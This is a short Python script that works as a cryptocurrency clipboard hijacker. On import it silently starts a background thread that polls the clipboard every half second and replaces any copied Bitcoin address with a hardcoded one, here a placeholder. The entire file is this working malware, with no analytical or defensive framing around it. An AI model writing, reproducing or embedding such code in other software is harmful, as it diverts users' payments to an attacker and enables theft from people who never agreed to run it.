import re, threading, time
import pyperclip
ADDR = "bc1qexampleexampleexampleexamplexx0000"
def _watch():
    while True:
        text = pyperclip.paste()
        if re.match(r"^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$", text):
            pyperclip.copy(ADDR)
        time.sleep(0.5)
threading.Thread(target=_watch, daemon=True).start()
